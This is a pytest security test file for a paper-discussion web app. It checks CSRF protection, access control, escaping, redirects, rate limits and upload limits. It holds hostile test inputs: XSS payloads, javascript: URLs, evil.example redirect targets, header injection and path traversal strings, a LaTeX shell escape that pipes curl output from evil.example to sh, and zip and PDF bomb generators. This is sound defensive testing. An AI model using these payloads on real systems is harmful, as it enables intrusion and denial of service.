"""Today's new routes seen from an attacker's side: every unsafe form and cookie-borne API
call needs the CSRF token (multipart uploads included); personal pages need a reader and
moderation an administrator; another reader's comment cannot be edited or deleted from
the page; a hidden comment stays hidden in the API and the Atom feed; hostile names,
titles and reasons are escaped in the new pages and feeds; ``next=`` never leaves the
site; personal answers are not cached; one reader's export never holds another's data;
download names of cite files carry no header syntax; over-size bodies are 413 and
floods 429.

Only what the feature tests (test_discussions_web, test_portability_web, test_facets,
test_onboarding_web, test_cite_feed_web) do not already prove. One small app over a
fresh database (two papers, one of them hostile; no index needed).
"""

from __future__ import annotations

import io
import re
import uuid
import xml.etree.ElementTree as ET
import zipfile
import zlib
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import text

from paperlens.accounts import User
from paperlens.config import Settings
from paperlens.core import PaperLens
from paperlens.paper import make_paper
from paperlens.portability.archive import MAX_ARCHIVE_BYTES
from paperlens.sources.base import Parsed
from paperlens.web import create_app
from paperlens.web.exports import cite_response
from paperlens.web.throttle import RateLimits

PASSWORD = "correct horse battery"
TOKEN_RE = re.compile(r'name="csrf_token" value="([^"]+)"')
PAPER = "2401.00001"
HOSTILE = "2401.00066"
HOSTILE_TITLE = "<script>alert(1)</script> Tom & Jerry"
ATOM = "{http://www.w3.org/2005/Atom}"


@pytest.fixture(scope="module")
def lens(tmp_path_factory: pytest.TempPathFactory) -> Iterator[PaperLens]:
    from databases import fresh_database

    root = tmp_path_factory.mktemp("attacks")
    with fresh_database(root) as url:
        lens = PaperLens(Settings(data_dir=root / "data", database_url=url, max_seq_length=128))
        for pid, title in ((PAPER, "A plain paper"), (HOSTILE, HOSTILE_TITLE)):
            p = make_paper(
                id=pid,
                title=title,
                abstract="Abstract <img src=x onerror=alert(2)>.",
                authors=["Mallory <b>Evil</b>"],
                categories=("cs.CR",),
                published=datetime(2024, 1, 2, tzinfo=UTC),
                source="test",
                links={"url": "javascript:alert(3)", "pdf": "javascript:alert(8)"},
            )
            lens.papers.write_batch([Parsed(p, "test")])
        yield lens
        lens.close()


@pytest.fixture(scope="module")
def app(lens: PaperLens) -> Any:
    return create_app(lens, rate_limit=None, auth_limits=None)


def browser(app: Any) -> TestClient:
    return TestClient(app, raise_server_exceptions=False)


def new_user(lens: PaperLens, name: str = "Reader", *, admin: bool = False) -> User:
    user = lens.accounts.create_user(
        f"r-{uuid.uuid4().hex[:10]}@example.org", PASSWORD, name, verified=True
    )
    return lens.accounts.set_admin(user.email) if admin else user


def bearer(lens: PaperLens, user: User) -> dict[str, str]:
    _id, plain = lens.accounts.create_api_token(user.pk, "tests")
    return {"Authorization": f"Bearer {plain}"}


def csrf(client: TestClient, path: str = f"/paper/{PAPER}") -> str:
    match = TOKEN_RE.search(client.get(path).text)
    assert match, "no CSRF field"
    return match.group(1)


def signed_in(app: Any, user: User) -> TestClient:
    c = browser(app)
    r = c.post(
        "/login",
        data={"email": user.email, "password": PASSWORD, "csrf_token": csrf(c, "/login")},
        follow_redirects=False,
    )
    assert r.status_code == 303, r.text[:300]
    return c


def api_comments(paper: str = PAPER) -> str:
    return f"/api/v1/papers/{paper}/comments"


def a_comment(lens: PaperLens, author: User, body: str, paper: str = PAPER) -> int:
    stored = lens.papers.get(paper)
    assert stored is not None
    return lens.discussions.post(author, stored.pk, body).comment.pk


def tiny_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("paperlens-export.json", "{}")
    return out.getvalue()


# -- CSRF --------------------------------------------------------------------------------------

#: Every unsafe web route added today: (path, form fields, files).
WEB_FORMS: list[tuple[str, dict[str, str], dict[str, Any] | None]] = [
    ("/comments", {"paper": PAPER, "body": "forged"}, None),
    ("/comments/{cid}/edit", {"paper": PAPER, "body": "forged"}, None),
    ("/comments/{cid}/delete", {"paper": PAPER}, None),
    ("/comments/{cid}/report", {"paper": PAPER, "reason": "forged"}, None),
    ("/comments/{cid}/moderate", {"action": "hide"}, None),
    ("/admin/bans", {"user": "{victim}", "reason": "forged"}, None),
    ("/notifications/read", {}, None),
    ("/settings/notifications", {"mail_mentions": "1"}, None),
    ("/account/import", {}, {"archive": ("x.zip", tiny_zip(), "application/zip")}),
    ("/account/delete", {"password": PASSWORD}, None),
    ("/welcome/categories", {"categories": "cs.LG"}, None),
    ("/welcome/rate", {"paper": PAPER, "liked": "1"}, None),
    ("/like-my-draft", {"text": "forged"}, {"pdf": ("d.pdf", b"%PDF-1.4 x", "application/pdf")}),
]


@pytest.mark.parametrize("forged", ["", "0" * 64], ids=["missing", "wrong"])
def test_every_new_form_refuses_a_forged_post(app: Any, lens: PaperLens, forged: str) -> None:
    """An administrator's browser (so no route-level refusal hides a missing check):
    without the right token every new form is a 403 naming CSRF, and nothing changed."""
    admin = new_user(lens, "Boss", admin=True)
    victim = new_user(lens, "Victim")
    cid = a_comment(lens, victim, "original words")
    c = signed_in(app, admin)
    for path, fields, files in WEB_FORMS:
        data = {k: v.replace("{victim}", str(victim.pk)) for k, v in fields.items()}
        if forged:
            data["csrf_token"] = forged
        r = c.post(path.replace("{cid}", str(cid)), data=data, files=files, follow_redirects=False)
        assert r.status_code == 403 and "CSRF" in r.text, (path, r.status_code, r.text[:200])
    assert lens.discussions.comment(cid, admin).state == "visible"
    assert "original words" in lens.discussions.comment(cid, admin).html
    assert not lens.discussions.is_banned(victim.pk)
    assert lens.accounts.get_user(admin.pk) is not None  # not deleted
    assert c.get("/account/data").status_code == 200  # still signed in


def test_cookie_borne_api_writes_need_the_token(app: Any, lens: PaperLens) -> None:
    """A page on another site can make the browser send its session cookie to the API
    (a text/plain form or a no-cors fetch): with a cookie, the API wants the token too."""
    reader = new_user(lens, "Cookie")
    cid = a_comment(lens, reader, "mine")
    c = signed_in(app, reader)
    forged = [
        ("POST", api_comments(), {"content": b'{"body": "forged"}'}),
        ("PATCH", f"{api_comments()}/{cid}", {"content": b'{"body": "forged"}'}),
        ("DELETE", f"{api_comments()}/{cid}", {}),
        ("POST", f"{api_comments()}/{cid}/report", {"content": b'{"reason": "x"}'}),
        ("POST", "/api/v1/notifications/read", {}),
        ("POST", "/api/v1/account/import", {"content": tiny_zip()}),
        (
            "POST",
            "/api/v1/onboarding/ratings",
            {"content": b'{"paper": "2401.00001", "liked": true}'},
        ),
        ("POST", "/api/v1/drafts/similar", {"content": b"forged draft text"}),
    ]
    for method, path, kw in forged:
        r = c.request(method, path, headers={"content-type": "text/plain"}, **kw)
        assert r.status_code == 403 and "CSRF" in r.text, (method, path, r.status_code)
    assert "mine" in lens.discussions.comment(cid, reader).html


# -- who may act -------------------------------------------------------------------------------


def test_personal_pages_and_api_need_a_reader(app: Any) -> None:
    anon = browser(app)
    for path in ("/notifications", "/settings/notifications", "/account/data", "/welcome"):
        r = anon.get(path, follow_redirects=False)
        assert r.status_code == 303 and r.headers["location"].startswith("/login"), path
    for path in ("/api/v1/notifications", "/api/v1/onboarding", "/api/v1/account/export"):
        assert anon.get(path).status_code == 401, path
    assert anon.post("/api/v1/notifications/read").status_code == 401
    r = anon.get("/admin/comments", follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"].startswith("/login")
    # a made-up API token is nobody: 401, before any moderation
    r = anon.post(
        f"{api_comments()}/1/moderate",
        json={"action": "hide"},
        headers={"Authorization": "Bearer not-a-token"},
    )
    assert r.status_code == 401


def test_moderation_is_for_administrators_only(app: Any, lens: PaperLens) -> None:
    author, reader = new_user(lens, "Author"), new_user(lens, "Nosy")
    cid = a_comment(lens, author, "keep me")
    c = signed_in(app, reader)
    token = csrf(c)
    r = c.post("/admin/bans", data={"user": str(author.pk), "csrf_token": token})
    assert r.status_code == 403 and not lens.discussions.is_banned(author.pk)
    h = bearer(lens, reader)
    r = browser(app).post(f"{api_comments()}/{cid}/moderate", json={"action": "hide"}, headers=h)
    assert r.status_code == 403
    assert lens.discussions.comment(cid).state == "visible"


def test_another_readers_comment_cannot_be_edited_or_deleted_from_the_page(
    app: Any, lens: PaperLens
) -> None:
    owner, other = new_user(lens, "Owner"), new_user(lens, "Other")
    cid = a_comment(lens, owner, "the owner's words")
    c = signed_in(app, other)
    token = csrf(c)
    edit = c.post(
        f"/comments/{cid}/edit",
        data={"paper": PAPER, "body": "defaced", "csrf_token": token},
        follow_redirects=False,
    )
    assert edit.status_code == 403 and "defaced" in edit.text  # the refused text comes back
    delete = c.post(
        f"/comments/{cid}/delete",
        data={"paper": PAPER, "csrf_token": token},
        follow_redirects=False,
    )
    assert delete.status_code == 403
    # the right comment named under another paper is not found, whoever asks
    c_owner = signed_in(app, owner)
    r = c_owner.post(
        f"/comments/{cid}/delete",
        data={"paper": HOSTILE, "csrf_token": csrf(c_owner)},
        follow_redirects=False,
    )
    assert r.status_code == 404
    seen = lens.discussions.comment(cid, owner)
    assert seen.state == "visible" and "the owner's words" in seen.html


def test_a_hidden_comment_stays_hidden_in_the_api_and_the_feed(app: Any, lens: PaperLens) -> None:
    author, admin = new_user(lens, "Shouter"), new_user(lens, "Mod", admin=True)
    cid = a_comment(lens, author, "secret-insult-words", paper=HOSTILE)
    lens.discussions.moderate(admin, cid, "hide")
    anon, reader = browser(app), browser(app)
    reader.headers.update(bearer(lens, new_user(lens, "Bystander")))
    as_author = browser(app)
    as_author.headers.update(bearer(lens, author))
    for who in (anon, reader, as_author):
        listing = who.get(api_comments(HOSTILE))
        assert listing.status_code == 200 and "secret-insult-words" not in listing.text
        one = who.get(f"{api_comments(HOSTILE)}/{cid}")
        assert one.status_code == 200 and "secret-insult-words" not in one.text
    feed = anon.get(f"/feeds/discussion/{HOSTILE}.xml")
    assert feed.status_code == 200 and "secret-insult-words" not in feed.text
    assert "secret-insult-words" not in anon.get(f"/paper/{HOSTILE}").text
    mod = browser(app)
    mod.headers.update(bearer(lens, admin))
    assert "secret-insult-words" in mod.get(f"{api_comments(HOSTILE)}/{cid}").text


# -- escaping ----------------------------------------------------------------------------------


def test_hostile_names_titles_and_reasons_are_escaped(app: Any, lens: PaperLens) -> None:
    evil = new_user(lens, "Eve <script>alert(4)</script>")
    target = new_user(lens, f"Tgt{uuid.uuid4().hex[:6]}")
    admin = new_user(lens, "Mod", admin=True)
    cid = a_comment(lens, evil, f"hi @{target.display_name} <script>alert(5)</script>", HOSTILE)
    lens.discussions.report(
        target, cid, '<img src=x onerror=alert(6)>"reason', paper_pk=lens.papers.get(HOSTILE).pk
    )  # type: ignore[union-attr]
    pages = {
        "paper": signed_in(app, target).get(f"/paper/{HOSTILE}").text,
        "notifications": signed_in(app, target).get("/notifications").text,
        "admin": signed_in(app, admin).get("/admin/comments").text,
    }
    for name, html in pages.items():
        assert "<script>alert(" not in html, name
        assert "<img src=x" not in html, name
        assert 'href="javascript:' not in html, name
    assert "&lt;script&gt;alert(1)&lt;/script&gt; Tom &amp; Jerry" in pages["notifications"]
    assert "&lt;img src=x onerror=alert(6)&gt;" in pages["admin"]
    # the refused-comment page echoes the text back, escaped
    c = signed_in(app, target)
    r = c.post(
        "/comments",
        data={
            "paper": HOSTILE,
            "body": "",
            "parent": "<script>alert(7)</script>",
            "csrf_token": csrf(c),
        },
    )
    assert r.status_code == 400 and "<script>alert(7)" not in r.text
    # the Atom feed is well-formed XML whose text is the raw title, never markup
    feed = browser(app).get(f"/feeds/discussion/{HOSTILE}.xml")
    root = ET.fromstring(feed.content)
    assert HOSTILE_TITLE in (root.findtext(f"{ATOM}title") or "")
    assert "javascript:" not in feed.text
    for entry in root.iter(f"{ATOM}entry"):
        for link in entry.iter(f"{ATOM}link"):
            assert link.get("href", "").startswith(("http://", "https://", "/")), link.attrib


# -- redirects ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "//evil.example/x",
        "https://evil.example/",
        "/\\evil.example",
        "javascript:alert(1)",
        "/\t/evil.example",
        " //evil.example",
    ],
)
def test_moderation_next_never_leaves_the_site(app: Any, lens: PaperLens, target: str) -> None:
    admin, author = new_user(lens, "Mod", admin=True), new_user(lens, "Someone")
    cid = a_comment(lens, author, "to hide")
    c = signed_in(app, admin)
    token = csrf(c, "/admin/comments")
    for path, data in (
        (f"/comments/{cid}/moderate", {"action": "hide"}),
        ("/admin/bans", {"user": str(author.pk), "action": "unban"}),
    ):
        r = c.post(path, data={**data, "next": target, "csrf_token": token}, follow_redirects=False)
        assert r.status_code == 303
        location = r.headers["location"]
        assert location.startswith("/") and not location.startswith(("//", "/\\")), location
        assert "evil.example" not in location


# -- caching and what an export holds ---------------------------------------------------------


def test_personal_answers_are_never_cached(app: Any, lens: PaperLens) -> None:
    reader = new_user(lens, "Private")
    c = signed_in(app, reader)
    api = browser(app)
    api.headers.update(bearer(lens, reader))
    for client, path in (
        (c, "/notifications"),
        (c, "/account/export"),
        (api, "/api/v1/notifications"),
        (api, "/api/v1/account/export"),
        # Every other answer for a signed-in reader too (one rule in SecurityHeaders).
        (c, "/welcome"),
        (c, "/account/data"),
        (c, f"/paper/{PAPER}"),
        (c, "/for-you"),
        (api, "/api/v1/onboarding"),
    ):
        r = client.get(path)
        assert r.status_code == 200, path
        cache = r.headers.get("cache-control", "")
        assert "no-store" in cache, (path, cache)
    # An anonymous page may be cached; a static file keeps its long lifetime.
    anonymous = browser(app)
    assert "no-store" not in anonymous.get(f"/paper/{PAPER}").headers.get("cache-control", "")
    static = c.get("/static/style.css")
    assert "no-store" not in static.headers.get("cache-control", "")


def test_an_export_never_holds_another_readers_data(app: Any, lens: PaperLens) -> None:
    ann, bob = new_user(lens, "Ann"), new_user(lens, f"Bob{uuid.uuid4().hex[:6]}")
    pk = lens.papers.get(PAPER).pk  # type: ignore[union-attr]
    secret = lens.library.create(bob.pk, "bobs-secret-collection")
    lens.library.save(bob.pk, pk, secret.pk)
    lens.library.set_note(bob.pk, pk, "bobs-private-note")
    root = a_comment(lens, ann, "ann asks a question")
    lens.discussions.post(bob, pk, f"@{ann.display_name} bobs-reply-text", root)
    r = signed_in(app, ann).get("/account/export")
    assert r.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(r.content))
    blob = b"".join(archive.read(name) for name in archive.namelist())
    assert b"ann asks a question" in blob  # her own comment is there
    for foreign in (bob.email, "bobs-secret-collection", "bobs-private-note", "bobs-reply-text"):
        assert foreign.encode() not in blob, foreign


# -- headers of downloads ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "odd_id",
    ['x"; filename="evil.sh', "a\r\nSet-Cookie: pl_session=1", "ü/../../etc/passwd", ";;", "é"],
)
def test_cite_download_names_carry_no_header_syntax(odd_id: str) -> None:
    paper = make_paper(id=odd_id, title="T", abstract="A", source="t")
    disposition = cite_response(paper, "bibtex").headers["content-disposition"]
    assert re.fullmatch(r'attachment; filename="[A-Za-z0-9.-]+\.bib"', disposition), disposition


# -- sizes and floods ----------------------------------------------------------------------------


def test_oversized_bodies_are_refused_before_reading(app: Any, lens: PaperLens) -> None:
    reader = new_user(lens, "Big")
    c = signed_in(app, reader)
    token = csrf(c)
    huge_comment = {"paper": PAPER, "body": "x" * 200_000, "csrf_token": token}
    assert c.post("/comments", data=huge_comment).status_code == 413
    api = browser(app)
    api.headers.update(bearer(lens, reader))
    r = api.post(api_comments(), content=b'{"body": "' + b"x" * 200_000 + b'"}')
    assert r.status_code == 413
    over = b"\0" * (MAX_ARCHIVE_BYTES + 100 * 1024)
    assert api.post("/api/v1/account/import", content=over).status_code == 413
    pdf = {"pdf": ("big.pdf", b"%PDF-1.4\n" + b"0" * (21 * 1024 * 1024), "application/pdf")}
    assert c.post("/like-my-draft", data={"csrf_token": token}, files=pdf).status_code == 413


def test_a_zip_bomb_upload_is_refused_with_nothing_imported(app: Any, lens: PaperLens) -> None:
    reader = new_user(lens, "Bomber")
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("paperlens-export.json", b"0" * (16 * 1024 * 1024))
    api = browser(app)
    api.headers.update(bearer(lens, reader))
    r = api.post(
        "/api/v1/account/import",
        content=bomb.getvalue(),
        headers={"content-type": "application/zip"},
    )
    assert r.status_code == 400 and "zip bomb" in r.json()["detail"]
    assert [c.size for c in lens.library.collections(reader.pk)] in ([], [0])


def test_import_and_report_floods_are_429(lens: PaperLens) -> None:
    limits = RateLimits(import_account="2/hour", report_account="2/hour")
    app = create_app(lens, rate_limit=None, auth_limits=limits)
    reader, author = new_user(lens, "Flood"), new_user(lens, "Target")
    api = browser(app)
    api.headers.update(bearer(lens, reader))
    codes = [
        api.post(
            "/api/v1/account/import",
            content=b"not a zip",
            headers={"content-type": "application/zip"},
        ).status_code
        for _ in range(3)
    ]
    assert codes == [400, 400, 429]
    cids = [a_comment(lens, author, f"report me {i}") for i in range(3)]
    codes = [
        api.post(f"{api_comments()}/{cid}/report", json={"reason": "spam"}).status_code
        for cid in cids
    ]
    assert codes == [200, 200, 429]


def test_edits_cannot_be_flooded_to_spread_mentions(lens: PaperLens) -> None:
    """Each edit notifies (and may mail) readers mentioned anew: unthrottled, one comment
    could be edited again and again, twenty new handles a time, to reach every reader.
    Edits have their own per-account limit."""
    app = create_app(lens, rate_limit=None, auth_limits=RateLimits(edit_account="3/minute"))
    spammer = new_user(lens, "Spammer")
    targets = [new_user(lens, f"T{uuid.uuid4().hex[:8]}") for _ in range(5)]
    cid = a_comment(lens, spammer, "innocent")
    api = browser(app)
    api.headers.update(bearer(lens, spammer))
    codes = [
        api.patch(f"{api_comments()}/{cid}", json={"body": f"hi @{t.display_name}"}).status_code
        for t in targets[:4]
    ]
    assert codes == [200, 200, 200, 429]
    assert lens.discussions.unread_count(targets[3].pk) == 0  # the refused edit notified nobody
    page = signed_in(app, spammer)
    r = page.post(
        f"/comments/{cid}/edit",
        data={"paper": PAPER, "body": f"hi @{targets[4].display_name}", "csrf_token": csrf(page)},
    )
    assert r.status_code == 429 and "Retry-After" in r.headers and targets[4].display_name in r.text
    assert lens.discussions.unread_count(targets[4].pk) == 0


def test_an_unverified_account_gets_no_subscription_of_its_address(
    app: Any, lens: PaperLens
) -> None:
    """Anyone can sign up with someone else's address (unverified); the address is not
    theirs, so its digest subscription (with its searches) is neither exported to them
    nor deleted with their account."""
    victim = f"v-{uuid.uuid4().hex[:8]}@example.org"
    with lens.engine.begin() as conn:
        conn.execute(
            text(
                "INSERT INTO digest_subscriptions (email, frequency, tz, sections, searches,"
                " created_at) VALUES (:e, 'daily', 'UTC', '[]', '[\"victims-secret-search\"]',"
                " CURRENT_TIMESTAMP)"
            ),
            {"e": victim},
        )
    squatter = lens.accounts.create_user(victim, PASSWORD, "Squatter")  # not verified
    c = signed_in(app, squatter)
    r = c.get("/account/export")
    assert r.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(r.content))
    assert b"victims-secret-search" not in archive.read("paperlens-export.json")
    r = c.post(
        "/account/delete",
        data={"password": PASSWORD, "csrf_token": csrf(c, "/account/data")},
        follow_redirects=False,
    )
    assert r.status_code == 303 and lens.accounts.get_user(squatter.pk) is None
    with lens.engine.connect() as conn:
        left = conn.execute(
            text("SELECT count(*) FROM digest_subscriptions WHERE email = :e"), {"e": victim}
        ).scalar_one()
    assert left == 1


def _pdf_with_flate_stream(raw: bytes) -> bytes:
    """A one-page PDF whose content stream is ``raw``, deflated (a few KB for a bomb)."""
    packed = zlib.compress(raw, 9)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for n, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % n + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.writelines(b"%010d 00000 n \n" % o for o in offsets)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1))
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def test_a_pdf_decompression_bomb_is_a_400_not_a_server_error(app: Any) -> None:
    """A 75 KB upload whose stream inflates past pypdf's 75 MB limit: pypdf raises
    LimitReachedError (no PdfReadError); the reader gets the "damaged" message."""
    bomb = _pdf_with_flate_stream(b" " * 75_000_010)
    assert len(bomb) < 100_000
    c = browser(app)
    token = csrf(c, "/like-my-draft")
    files = {"pdf": ("bomb.pdf", bomb, "application/pdf")}
    r = c.post("/like-my-draft", data={"csrf_token": token}, files=files)
    assert r.status_code == 400 and "could not be read" in r.text
    r = c.post(
        "/api/v1/drafts/similar/pdf", content=bomb, headers={"content-type": "application/pdf"}
    )
    assert r.status_code == 400 and "could not be read" in r.json()["detail"]


@pytest.mark.parametrize("odd_id", ["test:ü-1", "test:a b"])
def test_a_comment_on_an_odd_paper_id_gets_a_valid_location(
    app: Any, lens: PaperLens, odd_id: str
) -> None:
    """Ids come from sources and need not be ASCII: the new comment's ``Location`` is
    percent-encoded (a raw non-Latin-1 id made the answer a 500)."""
    if lens.papers.get(odd_id) is None:
        lens.papers.write_batch(
            [Parsed(make_paper(id=odd_id, title="T", abstract="A", source="t"), "t")]
        )
    api = browser(app)
    api.headers.update(bearer(lens, new_user(lens, "Odd")))
    r = api.post(f"/api/v1/papers/{odd_id}/comments", json={"body": "hello"})
    assert r.status_code == 201, r.text[:200]
    location = r.headers["location"]
    assert location.isascii() and " " not in location
    assert api.get(location).json()["body"] == "hello"


def test_banning_an_unknown_account_is_a_404(app: Any, lens: PaperLens) -> None:
    admin = new_user(lens, "Mod", admin=True)
    c = signed_in(app, admin)
    token = csrf(c, "/admin/comments")
    for pk in ("999999", "2147483647"):
        r = c.post("/admin/bans", data={"user": pk, "csrf_token": token}, follow_redirects=False)
        assert r.status_code == 404 and "no account" in r.text, r.text[:200]


def test_marking_read_touches_only_ones_own_notifications(app: Any, lens: PaperLens) -> None:
    ann, bob = (
        new_user(lens, f"Ann{uuid.uuid4().hex[:6]}"),
        new_user(lens, f"Bob{uuid.uuid4().hex[:6]}"),
    )
    writer = new_user(lens, "Writer")
    a_comment(lens, writer, f"@{ann.display_name} and @{bob.display_name}, look")
    assert lens.discussions.unread_count(ann.pk) == 1 == lens.discussions.unread_count(bob.pk)
    c = signed_in(app, bob)
    assert (
        c.post("/notifications/read", data={"csrf_token": csrf(c), "user": str(ann.pk)}).status_code
        == 200
    )
    api = browser(app)
    api.headers.update(bearer(lens, bob))
    r = api.post("/api/v1/notifications/read", json={"user": ann.pk})
    assert r.status_code == 200 and r.json()["unread"] == 0
    assert "private" in r.headers["cache-control"]
    assert lens.discussions.unread_count(bob.pk) == 0
    assert lens.discussions.unread_count(ann.pk) == 1  # Ann's are still unread


def test_the_draft_page_is_rate_limited_too(lens: PaperLens) -> None:
    app = create_app(lens, rate_limit=None, auth_limits=RateLimits(draft_ip="1/minute"))
    c = browser(app)
    token = csrf(c, "/like-my-draft")
    codes = [
        c.post("/like-my-draft", data={"text": "short <b>", "csrf_token": token}).status_code
        for _ in range(2)
    ]
    assert codes == [400, 429]


@pytest.mark.parametrize(
    "title",
    [
        r"Reading \input{/etc/passwd} into your thesis",
        r"\immediate\write18{curl evil.example | sh} and \def\title{pwned}",
        r"Hats $x^^5cinput{/etc/passwd}$ and $y^^^^005cinclude{z}$",
        r"\csname input\endcsname{/etc/hosts} \usepackage{shellesc}",
    ],
)
def test_cite_files_carry_no_file_or_shell_commands(title: str) -> None:
    """A title is LaTeX the reader compiles: commands that read or write files, run
    shell escapes or redefine macros lose their backslash; ``^^`` (TeX's way to spell a
    backslash) is broken; the file still parses with bibtexparser and pybtex."""
    import bibtexparser
    import pybtex.database

    paper = make_paper(id="2401.00099", title=title, abstract="A", authors=["A B"], source="t")
    text = cite_response(paper, "bibtex").body.decode()
    for command in ("input", "include", "write18", "immediate", "def", "csname", "usepackage"):
        assert not re.search(r"(?<!\\)\\" + command + r"(?![A-Za-z])", text), (command, text)
    assert "^^" not in text
    assert bibtexparser.parse_string(text).entries[0]["title"]
    assert pybtex.database.parse_string(text, "bibtex").entries


def _pdf_drawing_a_form_many_times(uses: int) -> bytes:
    """A ~10 KB PDF whose page draws one 200 KB text form ``uses`` times: pypdf
    re-reads the form at each use (minutes of CPU for 2,000 uses)."""
    unit = b"BT /F1 12 Tf (ab) Tj ET\n"
    form = zlib.compress(unit * (200_000 // len(unit)), 9)
    content = zlib.compress(b"/X1 Do\n" * uses, 9)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [5 0 R] /Count 1 >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content)
        + content
        + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R"
        b" /Resources << /Font << /F1 4 0 R >> /XObject << /X1 6 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode /Type /XObject /Subtype /Form"
        b" /BBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> >>\nstream\n"
        % len(form)
        + form
        + b"\nendstream",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for n, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % n + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.writelines(b"%010d 00000 n \n" % o for o in offsets)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1))
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def test_a_pdf_that_keeps_the_parser_busy_is_cut_off(
    app: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Text extraction runs in a child process killed after ``PDF_SECONDS`` (lowered
    here): the request answers 400 quickly instead of holding a CPU for minutes."""
    import time

    from paperlens import drafts

    monkeypatch.setattr(drafts, "PDF_SECONDS", 2.0)
    busy = _pdf_drawing_a_form_many_times(2000)
    assert len(busy) < 20_000
    c = browser(app)
    token = csrf(c, "/like-my-draft")
    started = time.monotonic()
    files = {"pdf": ("busy.pdf", busy, "application/pdf")}
    r = c.post("/like-my-draft", data={"csrf_token": token}, files=files)
    assert r.status_code == 400 and "too complex" in r.text
    assert time.monotonic() - started < 15
